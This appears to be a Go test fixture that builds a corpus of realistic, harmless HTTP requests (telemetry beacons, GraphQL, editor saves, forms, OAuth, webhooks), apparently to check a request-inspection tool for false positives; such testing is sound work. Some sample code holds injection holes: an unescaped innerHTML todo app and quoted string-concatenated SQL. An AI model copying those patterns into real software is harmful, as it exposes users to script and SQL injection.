	for i, ck := range realCookies {
		add(realReq{name: fmt.Sprintf("cookie set %d", i), method: "GET", target: "/account/orders?status=open", hdr: with(hdrChrome, "Cookie", ck)})
	}

	// Analytics and telemetry.
	add(realReq{name: "GA4 collect beacon", method: "POST", ctype: "text/plain;charset=UTF-8",
		target: "/g/collect?v=2&tid=G-X1Y2Z3W4V5&gtm=45je4c10v9184717391za200&_p=1733212800123&gcd=13l3l3l3l1l1&npa=0&dma=0&tag_exp=101925629~102067555&cid=1234567890.1733212800&ul=en-gb&sr=1920x1080&uaa=x86&uab=64&uafvl=Google%2520Chrome%3B131.0.6778.86%7CChromium%3B131.0.6778.86%7CNot_A%2520Brand%3B24.0.0.0&uamb=0&uam=&uap=Windows&uapv=15.0.0&uaw=0&are=1&frm=0&pscdl=noapi&_eu=AEA&_s=2&sid=1733212800&sct=3&seg=1&dl=" + url.QueryEscape("https://docs.example.com/search?q=drop table users") + "&dr=" + url.QueryEscape("https://www.google.com/") + "&dt=" + url.QueryEscape("Search results for \"drop table users\" | Docs") + "&en=view_search_results&ep.search_term=" + url.QueryEscape("drop table users") + "&_et=4512&tfd=8123",
		body:   "en=scroll&epn.percent_scrolled=90&_et=3021\r\nen=user_engagement&_et=12044\r\nen=click&ep.link_url=" + url.QueryEscape("https://github.com/example/repo/blob/main/install.sh") + "&ep.link_domain=github.com&ep.outbound=true&_et=220",
		hdr:    with(hdrChrome, "Origin", "https://docs.example.com")})
	add(realReq{name: "Sentry envelope", method: "POST", target: "/api/4504061234567890/envelope/?sentry_key=0123456789abcdef0123456789abcdef&sentry_version=7&sentry_client=sentry.javascript.react%2F8.42.0", ctype: "text/plain;charset=UTF-8", body: sentryEnvelope(), hdr: with(hdrXHR)})
	add(realReq{name: "Sentry envelope gzip", method: "POST", target: "/api/4504061234567890/envelope/", ctype: "application/x-sentry-envelope", body: sentryEnvelope(), gzip: true, hdr: with(hdrMobile)})
	dd := `{"_dd":{"format_version":2,"drift":0,"session":{"plan":1},"configuration":{"session_sample_rate":100}},"application":{"id":"0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d"},"date":1733212800123,"service":"web","version":"2.31.0","source":"browser","session":{"id":"5d4c3b2a-1f0e-9d8c-7b6a-5f4e3d2c1b0a","type":"user"},"view":{"id":"a1b2","url":"https://app.example.com/search?q=script%20tag%20help&sort=-date","referrer":"https://app.example.com/","name":"/search"},"type":"error","error":{"id":"e1","message":"Script error.","source":"source","type":"Error","stack":"Error: Script error.\n    at HTMLDocument.<anonymous> (https://app.example.com/static/js/main.js:2:1234)\n    at Object.onload (https://cdn.example.com/widget.js?v=3:1:999)","handling":"unhandled"},"action":{"id":["a9"]}}` + "\n" +
		`{"type":"resource","date":1733212800200,"resource":{"id":"r1","type":"fetch","method":"POST","url":"https://api.example.com/graphql?op=SearchProducts","status_code":200,"duration":123000000},"view":{"id":"a1b2","url":"https://app.example.com/search?q=O%27Reilly%20%26%20Sons"}}` + "\n" +
		`{"type":"long_task","date":1733212800300,"long_task":{"id":"l1","duration":87000000},"context":{"feature_flags":{"new-checkout":true}}}`
	add(realReq{name: "Datadog RUM batch", method: "POST", ctype: "text/plain;charset=UTF-8", body: dd,
		target: "/api/v2/rum?ddsource=browser&ddtags=sdk_version%3A5.32.0%2Capi%3Afetch%2Cenv%3Aproduction%2Cservice%3Aweb%2Cversion%3A2.31.0&dd-api-key=pub0123456789abcdef0123456789abcdef&dd-evp-origin-version=5.32.0&dd-evp-origin=browser&dd-request-id=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d&batch_time=1733212800400",
		hdr:    with(hdrChrome, "Origin", "https://app.example.com")})
	seg := jsonOf(map[string]any{"batch": []any{
		map[string]any{"type": "track", "event": "Products Searched", "properties": map[string]any{"query": "select * from products where price < 20", "results": 0}, "context": map[string]any{"page": map[string]any{"path": "/search", "referrer": "https://www.google.com/", "search": "?q=select+*+from+products+where+price+%3C+20", "title": "Search", "url": "https://shop.example.com/search?q=select+*+from+products+where+price+%3C+20"}, "userAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "locale": "en-GB", "library": map[string]any{"name": "analytics.js", "version": "next-1.76.0"}, "campaign": map[string]any{"source": "newsletter", "content": "<b>50%</b> off"}}, "messageId": "ajs-next-0a1b2c3d4e5f", "anonymousId": "c0a8012e-7b3f-4d2a-9f1e-5e6d7c8b9a0f", "timestamp": "2026-12-03T09:00:00.000Z"},
		map[string]any{"type": "identify", "userId": "u_48213", "traits": map[string]any{"name": "Siobhán O'Sullivan", "email": "siobhan@example.ie", "company": "Smith & Sons; Ltd.", "title": "DevOps -- on call"}},
		map[string]any{"type": "page", "name": "Docs", "properties": map[string]any{"path": "/docs/cli/rm", "title": "rm -rf: remove directories recursively", "url": "https://example.com/docs/cli/rm"}},
	}, "writeKey": "0123456789abcdefABCDEF0123456789", "sentAt": "2026-12-03T09:00:00.100Z"})
	add(realReq{name: "Segment batch as text/plain", method: "POST", target: "/v1/batch", ctype: "text/plain", body: seg, hdr: with(hdrChrome, "Origin", "https://shop.example.com")})
	add(realReq{name: "Segment batch as JSON", method: "POST", target: "/v1/batch", ctype: "application/json", body: seg, hdr: with(hdrXHR)})
	nr := jsonOf(map[string]any{"err": []any{map[string]any{"params": map[string]any{"stackHash": 1234567890, "exceptionClass": "TypeError", "request_uri": "/checkout", "message": "Cannot read properties of null (reading 'addEventListener')", "stack_trace": "TypeError: Cannot read properties of null (reading 'addEventListener')\n    at init (https://shop.example.com/assets/app.js:1:2345)\n    at HTMLDocument.<anonymous> (https://shop.example.com/assets/app.js:1:9876)", "browser_stack_hash": "abc123"}, "metrics": map[string]any{"count": 1, "time": map[string]any{"t": 1234}}}}})
	add(realReq{name: "New Relic jserrors", method: "POST", ctype: "text/plain", body: nr,
		target: "/jserrors/1/NRJS-0123456789abcdef012?a=123456789&sa=1&v=1.274.0&t=Unnamed%20Transaction&rst=5432&ck=0&s=0a1b2c3d4e5f6a7b&ref=https://shop.example.com/checkout&ptid=0a1b2c3d4e5f",
		hdr:    with(hdrChrome)})
	add(realReq{name: "Bing UET beacon", method: "GET", hdr: with(hdrChrome, "Referer", "https://shop.example.com/"),
		target: "/action/0?ti=12345678&tm=gtm002&Ver=2&mid=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d&bo=1&sid=1a2b3c40b14f11efa5b1a9c2f3e4d5c6&vid=1a2b5f10b14f11ef8d3c1f2e3d4c5b6a&vids=0&msclkid=N&uach=pv%3D15.0.0&pi=918639831&lg=en-GB&sw=1920&sh=1080&sc=24&tl=" + url.QueryEscape("Men's Coats & Jackets | Winter Sale – Example") + "&p=" + url.QueryEscape("https://shop.example.com/c/mens-coats?filter=size:M|L&sort=price-asc") + "&r=" + url.QueryEscape("https://www.bing.com/") + "&lt=1234&evt=pageLoad&sv=1&cdb=AQAQ&rn=123456"})
	clarity := `{"e":[ "0.7.49", 1, 0, 1234, "1abcd2e", "1x2y3z4", 3, 1, 0, "https://shop.example.com/c/mens-coats?filter=size:M|L", 0, 1, null],"a":[[1234,0,1920,1080,0],[1290,4,"<![CDATA[",["*M",1,0],["*D","html",null,"lang","en"],["*D","body",null,"class","page-template"],["*T",2,"Men's Coats & Jackets"],["*D","a",null,"href","javascript:void(0)","class","menu-toggle"]],[1300,36,["*S",".btn:hover{color:#fff}"]]]}`
	add(realReq{name: "Clarity collect", method: "POST", target: "/collect", ctype: "application/x-clarity-gzip", body: clarity, gzip: true, hdr: with(hdrChrome, "Origin", "https://shop.example.com")})
	add(realReq{name: "Clarity collect plain", method: "POST", target: "/collect", ctype: "text/plain", body: clarity, hdr: with(hdrChrome, "Origin", "https://shop.example.com")})
	fb := jsonOf(map[string]any{"client_info": map[string]any{"client_type": "ANDROID", "android_client_info": map[string]any{"sdk_version": 34, "model": "Pixel 8", "hardware": "husky", "device": "husky", "os_build": "AP2A.240905.003", "manufacturer": "Google", "fingerprint": "google/husky/husky:14/AP2A.240905.003/12231197:user/release-keys", "locale": "en", "country": "GB", "mcc_mnc": "23415", "application_build": "5120"}}, "log_source_name": "FIREPERF", "log_event": []any{map[string]any{"event_time_ms": "1733212800123", "source_extension_json_proto3": `{"application_info":{"google_app_id":"1:123456789:android:abcdef","app_instance_id":"cD3fG6hJ9kL","android_app_info":{"package_name":"com.example.shop","sdk_version":"21.0.2","version_name":"5.12.0"}},"network_request_metric":{"url":"https://api.example.com/v2/search?q=drop+shipping&page=1","http_method":"GET","http_response_code":200,"response_payload_bytes":"5123","client_start_time_us":"1733212800123000","time_to_response_completed_us":"231000"}}`, "timezone_offset_seconds": "3600"}}})
	add(realReq{name: "Firebase batchlog", method: "POST", target: "/v1/firelog/legacy/batchlog", ctype: "application/json", body: fb, hdr: with(hdrMobile, "User-Agent", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)")})
	add(realReq{name: "CSP report", method: "POST", target: "/csp-report", ctype: "application/csp-report", body: `{"csp-report":{"document-uri":"https://app.example.com/settings","referrer":"","violated-directive":"script-src-elem","effective-directive":"script-src-elem","original-policy":"default-src 'self'; script-src 'self' 'nonce-r4nd0m' https://www.googletagmanager.com; object-src 'none'; base-uri 'self'; report-uri /csp-report","disposition":"enforce","blocked-uri":"inline","line-number":12,"source-file":"https://app.example.com/settings","status-code":200,"script-sample":"window.dataLayer = window.dataLayer || []; functi"}}`, hdr: with(hdrChrome)})
	add(realReq{name: "Reporting API", method: "POST", target: "/reports", ctype: "application/reports+json", body: `[{"age":10,"body":{"blockedURL":"inline","columnNumber":39,"disposition":"enforce","documentURL":"https://app.example.com/","effectiveDirective":"script-src-attr","lineNumber":1,"originalPolicy":"script-src 'self'; report-to default","referrer":"","sample":"alert('saved')","sourceFile":"https://app.example.com/","statusCode":200},"type":"csp-violation","url":"https://app.example.com/","user_agent":"Mozilla/5.0"}]`, hdr: with(hdrChrome)})

	// GraphQL clients.
	add(realReq{name: "Apollo persisted query GET", method: "GET", hdr: with(hdrXHR, "apollographql-client-name", "web", "apollographql-client-version", "2.31.0"),
		target: "/graphql?operationName=ProductPage&variables=" + url.QueryEscape(`{"handle":"mens-wool-coat","first":10,"after":null,"filters":[{"price":{"min":20,"max":100}},{"variantOption":{"name":"Size","value":"M"}}]}`) + "&extensions=" + url.QueryEscape(`{"persistedQuery":{"version":1,"sha256Hash":"ecf4edb46db40b5132295c0291d62fb65d6759a9eedfa4d5d612dd5ec54a6b38"}}`)})
	add(realReq{name: "Relay mutation with HTML variables", left: "a shell command substitution in a Markdown comment", method: "POST", target: "/graphql", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"id": "CommentCreateMutation_4f2a9c", "query": "mutation CommentCreateMutation($input: CreateCommentInput!) { createComment(input: $input) { comment { id bodyHTML author { login } ...CommentFragment } } } fragment CommentFragment on Comment { id createdAt reactions(first: 5) { totalCount } }",
			"variables": map[string]any{"input": map[string]any{"subjectId": "MDU6SXNzdWUx", "body": "Repro:\n\n```sql\nSELECT id FROM jobs WHERE state = 'queued' OR state = 'running';\n```\n\nThen `kill -9 $(pgrep worker)` and it <b>never</b> restarts. <img src=\"https://user-images.example.com/1.png\" width=\"300\">"}}})})
	var batch []any
	for _, q := range []string{"query Me { me { id name avatarUrl(size: 64) } }", "query Notifications($first: Int = 20) { notifications(first: $first) { edges { node { id title body read } } } }", "query Cart { cart { id lines { id quantity merchandise { ... on ProductVariant { id title price { amount currencyCode } } } } } }"} {
		batch = append(batch, map[string]any{"query": q, "variables": map[string]any{}})
	}
	add(realReq{name: "GraphQL batch", method: "POST", target: "/graphql", ctype: "application/json", body: jsonOf(batch), hdr: with(hdrXHR)})
	add(realReq{name: "GraphQL search with quotes", method: "POST", target: "/graphql", ctype: "application/json", hdr: with(hdrXHR),
		body: `{"operationName":"Search","query":"query Search($q: String!, $first: Int) { search(query: $q, type: REPOSITORY, first: $first) { repositoryCount nodes { ... on Repository { nameWithOwner description stargazerCount } } } }","variables":{"q":"sql injection scanner language:python stars:>100","first":25}}`})

	// Rich-text editors.
	add(realReq{name: "Quill delta", method: "PUT", target: "/api/notes/812", ctype: "application/json", body: jsonOf(map[string]any{"title": "Release 2.4", "content": json.RawMessage(quillDelta)}), hdr: with(hdrXHR)})
	add(realReq{name: "ProseMirror doc", method: "PATCH", target: "/api/pages/ops-passwords", ctype: "application/json", body: jsonOf(map[string]any{"doc": json.RawMessage(proseMirrorDoc), "version": 17}), hdr: with(hdrXHR)})
	add(realReq{name: "CKEditor HTML in JSON", method: "POST", target: "/admin/api/pages", ctype: "application/json", body: jsonOf(map[string]any{"title": "Winter sale", "slug": "winter-sale", "body": ckeditorHTML, "status": "draft"}), hdr: with(hdrXHR)})
	add(realReq{name: "TinyMCE HTML in a form", method: "POST", target: "/wp-admin/post.php", ctype: "application/x-www-form-urlencoded", hdr: with(hdrChrome, "Cookie", realCookies[5], "Origin", "https://blog.example.com", "Referer", "https://blog.example.com/wp-admin/post.php?post=42&action=edit"),
		body: url.Values{"_wpnonce": {"a1b2c3d4e5"}, "_wp_http_referer": {"/wp-admin/post.php?post=42&action=edit"}, "user_ID": {"1"}, "action": {"editpost"}, "post_ID": {"42"}, "post_title": {"How we cut our AWS bill by 40%"}, "content": {ckeditorHTML + `<p>Embedded demo:</p><p><iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe></p>`}, "excerpt": {"Spot instances, S3 lifecycle rules & the \"unused EBS volumes\" query."}, "post_status": {"draft"}, "tax_input[post_tag]": {"aws, cost, devops"}}.Encode()})
	add(realReq{name: "Markdown post with code fences", method: "POST", target: "/api/posts", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"title": "Backing up Postgres", "markdown": "## Nightly dump\n\n```bash\n#!/usr/bin/env bash\nset -euo pipefail\npg_dump -Fc \"$DATABASE_URL\" > /var/backups/db-$(date +%F).dump\nfind /var/backups -name '*.dump' -mtime +7 -delete\n```\n\nRestore with `pg_restore -d mydb db.dump`. Check it with:\n\n```sql\nSELECT count(*) FROM pg_stat_activity WHERE state = 'active';\n```\n", "tags": []string{"postgres", "backup"}})})
	add(realReq{name: "e-mail client sends HTML mail", method: "POST", target: "/api/v1/messages/send", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"to": []string{"sam@example.com"}, "cc": []string{}, "subject": "RE: Q3 figures – 'EMEA' only?", "html": outlookHTML, "text": "Hi Sam,\nPlease find the Q3 figures attached.\n", "attachments": []any{map[string]any{"name": "Q3 report.xlsx", "id": "att_1"}}})})

	// Code saved through editors' APIs.
	add(realReq{name: "gist with SQL and shell", left: "a whole SQL statement in a field named content", method: "POST", target: "/api/gists", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"description": "weekly report query", "public": false, "files": map[string]any{
			"report.sql": map[string]any{"content": "SELECT u.id, u.email, count(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE o.created_at > now() - interval '7 days'\nGROUP BY u.id, u.email\nHAVING count(o.id) > 3\nORDER BY orders DESC;\n"},
			"run.sh":     map[string]any{"content": "#!/bin/sh\npsql \"$PG_URL\" -f report.sql | mail -s 'weekly report' ops@example.com\n"}}})})
	add(realReq{name: "Jupyter notebook save", method: "PUT", target: "/api/contents/analysis/churn.ipynb", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"type": "notebook", "format": "json", "content": map[string]any{"nbformat": 4, "nbformat_minor": 5, "metadata": map[string]any{"kernelspec": map[string]any{"name": "python3", "display_name": "Python 3"}}, "cells": []any{
			map[string]any{"cell_type": "code", "id": "a1", "metadata": map[string]any{}, "execution_count": 1, "outputs": []any{}, "source": []string{"import pandas as pd\n", "import os\n", "conn = os.environ['DB_URL']\n", "df = pd.read_sql(\"SELECT customer_id, churned FROM customers WHERE signup_date >= '2024-01-01'\", conn)\n"}},
			map[string]any{"cell_type": "code", "id": "a2", "metadata": map[string]any{}, "execution_count": 2, "outputs": []any{map[string]any{"output_type": "stream", "name": "stdout", "text": []string{"Collecting scikit-learn\n", "Successfully installed scikit-learn-1.5.2\n"}}}, "source": []string{"!pip install scikit-learn\n", "!ls -la /home/jovyan/data\n"}},
			map[string]any{"cell_type": "markdown", "id": "a3", "metadata": map[string]any{}, "source": []string{"## Results\n", "Churn is <b>higher</b> for users with `plan == 'free'` && `tenure < 3`.\n"}},
		}}})})
	add(realReq{name: "CodeSandbox save", left: "a data:image/svg+xml URL in CSS is read as a script URI", method: "POST", target: "/api/v1/sandboxes/abc123/modules", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"modules": []any{
			map[string]any{"path": "/index.html", "code": "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"UTF-8\">\n<title>Todo</title>\n<link rel=\"stylesheet\" href=\"styles.css\">\n</head>\n<body>\n<div id=\"app\"></div>\n<button onclick=\"addTodo()\">Add</button>\n<script src=\"index.js\"></script>\n</body>\n</html>\n"},
			map[string]any{"path": "/index.js", "code": "const app = document.getElementById('app');\nfunction addTodo() {\n  const text = prompt('What needs doing?');\n  if (!text) return;\n  app.innerHTML += `<li>${text}</li>`;\n  localStorage.setItem('todos', app.innerHTML);\n}\nwindow.addEventListener('load', () => { app.innerHTML = localStorage.getItem('todos') || ''; });\n"},
			map[string]any{"path": "/styles.css", "code": "body { font-family: system-ui, sans-serif; }\nli:hover { background: url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'/>\"); }\n"},
		}})})
	add(realReq{name: "JSFiddle save form", left: "an HTML field with an event handler", method: "POST", target: "/_save/", ctype: "application/x-www-form-urlencoded", hdr: with(hdrFirefox, "Origin", "https://jsfiddle.example.com"),
		body: url.Values{"html": {"<div id=\"out\"></div>\n<input id=\"q\" onkeyup=\"search(this.value)\">"}, "js": {"function search(v) {\n  document.getElementById('out').textContent = 'Searching ' + v;\n  fetch('/echo/json/?q=' + encodeURIComponent(v)).then(r => r.json()).then(console.log);\n}"}, "css": {"#out { color: #c00; }"}, "title": {"search demo"}, "wrap": {"l"}, "panel_js": {"0"}}.Encode()})
	add(realReq{name: "Redash query with a BigQuery comment and a wildcard table", method: "POST", target: "/redash/api/queries/268", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"data_source_id": 3, "query": "# BigQuery: sessions with checkout errors\nSELECT\n  event_date,\n  (SELECT value.string_value FROM UNNEST(event_params) WHERE key = 'page_location') AS page,\n  COUNT(*) AS errors\nFROM `portal-analytics.analytics_312345678.events_*`\nWHERE event_name = 'checkout_error'\nGROUP BY 1, 2\nORDER BY errors DESC", "name": "checkout errors"})})
	add(realReq{name: "Redash query with CASE buckets", method: "POST", target: "/redash/api/queries/310", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"data_source_id": 3, "query": "SELECT product_id,\n       CASE WHEN avg_rating >= 4.5 THEN 'great'\n            WHEN avg_rating >= 3.5 THEN 'ok'\n            ELSE 'needs review' END AS bucket\nFROM product_rating_summary\nWHERE product_id NOT IN (SELECT product_id FROM discontinued_products)\nLIMIT 50;"})})
	add(realReq{name: "Superset saved query with a Jinja placeholder", method: "POST", target: "/superset/api/v1/saved_query/", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"db_id": 1, "label": "margin by category", "sql": "SELECT category, SUM(revenue - cogs) / NULLIF(SUM(revenue), 0) AS margin\nFROM fct_sales\nWHERE sale_date >= '{{ from_dttm }}' -- jinja templated by Superset\nGROUP BY category"})})
	add(realReq{name: "Gist-like snippet with an SQL file", method: "POST", target: "/api/v1/snippets", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"title": "monthly-revenue.sql", "files": []any{map[string]any{"filename": "monthly-revenue.sql", "content": "-- revenue per month, excluding refunds\nSELECT date_trunc('month', o.created_at) AS month,\n       SUM(o.total) - COALESCE(SUM(r.amount), 0) AS net\nFROM orders o\nLEFT JOIN refunds r ON r.order_id = o.id\nWHERE o.status <> 'cancelled'\nGROUP BY 1\nORDER BY 1 DESC;\n"}}})})
	add(realReq{name: "snippet with a JavaScript file", method: "POST", target: "/api/v1/snippets", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"title": "debounce.js", "files": []any{map[string]any{"filename": "debounce.js", "content": "export function debounce(fn, ms = 250) {\n  let t;\n  return (...args) => {\n    clearTimeout(t);\n    t = setTimeout(() => fn.apply(this, args), ms);\n  };\n}\n\ndocument.querySelector('#search').addEventListener('input', debounce((e) => {\n  fetch(`/api/docs/search?q=${encodeURIComponent(e.target.value)}`).then(r => r.json()).then(render);\n}));\n"}}})})
	add(realReq{name: "migration script saved as text", method: "PUT", target: "/api/v1/migrations/0042", ctype: "text/plain; charset=utf-8", hdr: with(hdrXHR),
		body: "DROP TABLE IF EXISTS staging_orders CASCADE;\nCREATE TABLE staging_orders (LIKE orders INCLUDING ALL);\nINSERT INTO staging_orders SELECT * FROM orders WHERE status = 'paid';\n"})
	add(realReq{name: "Metabase native query", method: "POST", target: "/api/dataset", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"database": 2, "type": "native", "native": map[string]any{"query": "SELECT category, sum(total) AS revenue\nFROM orders\nWHERE created_at >= {{start_date}} AND status <> 'refunded'\nGROUP BY category\nORDER BY revenue DESC\nLIMIT 20", "template-tags": map[string]any{"start_date": map[string]any{"id": "5f3e", "name": "start_date", "display-name": "Start date", "type": "date"}}}, "parameters": []any{}})})
	add(realReq{name: "Redash query save", method: "POST", target: "/api/queries/77", ctype: "application/json", hdr: with(hdrXHR),
		body: `{"data_source_id":1,"query":"select date_trunc('day', created_at) as day, count(*) from events where name = 'signup' and created_at > now() - interval '30 days' group by 1 order by 1","name":"Daily signups","description":null,"options":{"parameters":[]},"schedule":null}`})
	add(realReq{name: "CI config editor", method: "PUT", target: "/api/v4/projects/12/repository/files/.gitlab-ci.yml", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"branch": "main", "commit_message": "ci: cache node_modules", "content": "stages: [test, deploy]\n\ntest:\n  image: node:20\n  cache:\n    paths: [node_modules/]\n  script:\n    - npm ci\n    - npm test -- --coverage\n\ndeploy:\n  stage: deploy\n  script:\n    - apt-get update && apt-get install -y rsync\n    - rsync -az --delete dist/ deploy@web1.example.com:/var/www/app/\n  only: [main]\n"})})

	// Forms.
	add(realReq{name: "checkout address form", method: "POST", target: "/checkout/address", ctype: "application/x-www-form-urlencoded", hdr: with(hdrSafari, "Origin", "https://shop.example.com", "Cookie", realCookies[8]),
		body: url.Values{"first_name": {"Seán"}, "last_name": {"O'Brien-Smith"}, "company": {"O'Brien & Daughters (Cork) Ltd."}, "address1": {"12 St. Patrick's Rd., Apt #4"}, "address2": {"c/o \"The Old Mill\" -- rear entrance"}, "city": {"Cork"}, "postcode": {"T12 X70A"}, "phone": {"+353 (0)21 123-4567"}, "notes": {"Leave at door; if no answer, try #3 or call. Don't ring before 9 a.m.!"}}.Encode()})
	add(realReq{name: "product description form", method: "POST", target: "/admin/products/77", ctype: "application/x-www-form-urlencoded", hdr: with(hdrEdge),
		body: url.Values{"title": {"12\" x 18\" Select Grade Oak Board"}, "description": {"<p>Kiln-dried <em>select</em> grade oak — ideal for drop-leaf tables & union joints. Sizes: 1/2\", 3/4\" & 1\".</p><ul><li>Moisture < 8%</li><li>Order by 3 p.m. for same-day dispatch</li></ul>"}, "tags": {"oak; hardwood; select-grade"}, "sku": {"OAK-12x18-SEL"}}.Encode()})
	add(realReq{name: "contact form about a bug", left: "a <script> tag quoted in prose", method: "POST", target: "/contact", ctype: "application/x-www-form-urlencoded", hdr: with(hdrFirefox),
		body: url.Values{"name": {"D'Angelo"}, "email": {"d.angelo@example.it"}, "message": {"Hi, when I search for <script> on your docs site the page shows nothing. Also the 'Delete account' button says \"are you sure?\" twice. Thanks!"}}.Encode()})
	add(realReq{name: "support ticket with log excerpt", left: "a shell pipeline in free text", method: "POST", target: "/api/tickets", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"subject": "Import fails", "body": "The import stops with:\n\nERROR: syntax error at or near \"'\" LINE 1: INSERT INTO contacts (name) VALUES ('O'Hara')\n\nI ran `cat import.log | tail -n 50` and attached it. Path was C:\\Users\\kim\\Downloads\\contacts.csv", "priority": "high"})})

	// Identity flows.
	add(realReq{name: "OIDC authorize", method: "GET", hdr: with(hdrChrome, "Referer", "https://app.example.com/"),
		target: "/oauth2/authorize?response_type=code&client_id=web-app&redirect_uri=" + url.QueryEscape("https://app.example.com/auth/callback") + "&scope=openid%20profile%20email%20offline_access&state=" + base64.RawURLEncoding.EncodeToString([]byte(`{"returnTo":"/reports?tab=q3&sort=-revenue","nonce":"n-0S6_WzA2Mj"}`)) + "&nonce=n-0S6_WzA2Mj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256&prompt=login&ui_locales=en-GB"})
	add(realReq{name: "OAuth token exchange", method: "POST", target: "/oauth2/token", ctype: "application/x-www-form-urlencoded", hdr: with(hdrMobile),
		body: "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=com.example.shop%3A%2F%2Foauth%2Fcallback&client_id=ios-app&code_verifier=dBjftJeZ4CVP-mJ92K9xKz5BCCZbM-v3YzNMC1Hm1qA"})
	add(realReq{name: "SAML ACS post", method: "POST", target: "/saml/acs", ctype: "application/x-www-form-urlencoded", body: samlResponse(), hdr: with(hdrChrome, "Origin", "https://idp.example.org", "Referer", "https://idp.example.org/")})
	add(realReq{name: "JWT bearer API call", method: "GET", target: "/api/v2/me?fields=id,name,email&include=teams", hdr: with(hdrXHR, "Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gTydEb2UiLCJzY29wZSI6InJlYWQ6dXNlcnMgd3JpdGU6dXNlcnMiLCJpYXQiOjE3MzMyMTI4MDB9.c2lnbmF0dXJlc2lnbmF0dXJlc2lnbmF0dXJlc2lnbmF0dXJl")})

	// Webhooks.
	add(realReq{name: "Stripe webhook", method: "POST", target: "/webhooks/stripe", ctype: "application/json; charset=utf-8", hdr: []string{"User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "Stripe-Signature", "t=1733212800,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd,v0=6ffbb59b2300aae63f272406069a9788598b792a944a07aba816edb039989a39"},
		body: `{"id":"evt_1QRy2bAbCdEfGh","object":"event","api_version":"2024-06-20","created":1733212800,"data":{"object":{"id":"cs_test_a1b2c3","object":"checkout.session","amount_total":4999,"currency":"eur","customer_details":{"address":{"city":"Dún Laoghaire","country":"IE","line1":"1 O'Connell St","line2":null,"postal_code":"A96 X2Y3","state":"Co. Dublin"},"email":"jane@example.ie","name":"Jane O'Connell"},"metadata":{"order_id":"1042","note":"gift; wrap it & add a card"},"success_url":"https://shop.example.com/thanks?session_id={CHECKOUT_SESSION_ID}","cancel_url":"https://shop.example.com/cart"}},"livemode":false,"pending_webhooks":1,"request":{"id":null,"idempotency_key":"0a1b2c3d"},"type":"checkout.session.completed"}`})
	add(realReq{name: "GitHub push webhook", left: "a <script> tag quoted in a commit message", method: "POST", target: "/webhooks/github", ctype: "application/json", hdr: []string{"User-Agent", "GitHub-Hookshot/6f1a2b3", "X-GitHub-Event", "push", "X-GitHub-Delivery", "0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d", "X-Hub-Signature-256", "sha256=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd"},
		body: jsonOf(map[string]any{"ref": "refs/heads/main", "before": "6113728f27ae82c7b1a177c8d03f9e96e0adf246", "after": "59b20b8d5c6ff8d09518454d4dd8b7b30f095ab5", "repository": map[string]any{"full_name": "example/app", "html_url": "https://github.com/example/app"}, "pusher": map[string]any{"name": "octocat"}, "commits": []any{
			map[string]any{"id": "59b20b8d", "message": "Fix SQL injection in search: use $1 placeholders instead of string concat\n\nThe old code did `\"SELECT * FROM items WHERE name LIKE '%\" + q + \"%'\"`.", "author": map[string]any{"name": "Ada O'Neill", "email": "ada@example.com"}, "added": []string{"db/migrations/0042_drop_legacy_tables.sql"}, "modified": []string{"internal/search/query.go", ".github/workflows/ci.yml"}, "removed": []string{"scripts/rm-old-logs.sh"}},
			map[string]any{"id": "a1b2c3d4", "message": "Revert \"Escape <script> in comments\"\n\nThis reverts commit 6113728f.", "author": map[string]any{"name": "octocat", "email": "octocat@github.com"}, "added": []string{}, "modified": []string{"web/templates/comment.html"}, "removed": []string{}},
		}})})

	// Uploads.
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReadyq\xc9e<\x00\x00\x00IEND\xaeB`\x82"
	csv := "name,amount,formula,note\n\"O'Brien, Sean\",12.50,=SUM(B2:B10),\"paid; 'late' fee\"\nAcme <Ltd>,-3,=IF(B3<0,\"refund\",\"ok\"),\"drop-off at gate 3\"\n"
